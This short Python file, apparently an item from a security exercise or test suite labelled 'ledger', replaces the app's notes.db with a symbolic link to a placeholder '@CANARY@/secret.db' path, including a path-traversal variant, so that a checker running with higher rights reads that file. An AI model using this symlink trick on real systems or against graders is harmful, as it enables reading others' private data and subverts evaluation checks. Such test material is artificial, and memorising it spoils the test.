# exercise: ledger
"""Puts a symbolic link to somebody else's database where the check opens the app's.

Aims: the grader's files, read with the grader's rights.
Ends: not_yet
"""

import os

for target in ("@CANARY@/secret.db", "../../../../../../..@CANARY@/secret.db"):
    try:
        os.unlink("notes.db")
    except OSError:
        pass
    os.symlink(target, "notes.db")
# app: shipped
